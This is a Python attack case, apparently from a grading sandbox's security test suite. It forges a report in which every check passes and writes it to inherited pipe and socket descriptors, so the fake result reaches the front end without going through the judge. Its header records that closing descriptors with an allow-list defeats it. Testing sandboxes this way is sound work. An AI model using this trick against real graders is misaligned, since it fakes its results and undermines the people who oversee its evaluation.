# /// attack
# row = 3
# does = "sends the front end a report of its own, past judge and service"
# expect = ["protocol"]
# stops = "descriptors closed by allow-list"
# without = ["closing"]
# sign = "accepted"
# ///
import json
import os

checks = ["forward", "heads", "scale", "large-scores", "gradients", "arguments", "input-kept"]
environment = {"quizapp": "0", "torch": "2", "python": "3", "platform": "linux", "device": "cpu",
               "dtype": "float32", "seed": 1, "tier": "landlock"}
report = {"challenge": "attention", "topic": "attention", "title": "Forged", "verdict": "pass",
          "source_sha256": "0" * 64, "filename": "answer.py", "environment": environment,
          "checks": [{"name": one, "label": one, "verdict": "pass"} for one in checks],
          "milliseconds": 1.0}
lines = b"".join(
    json.dumps({"kind": "finished", "id": number, "report": report}).encode() + b"\n"
    for number in range(1, 60)
)
for descriptor in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{descriptor}").startswith(("pipe:", "socket:")):
            os.write(descriptor, lines)
    except OSError:
        pass
raise ValueError
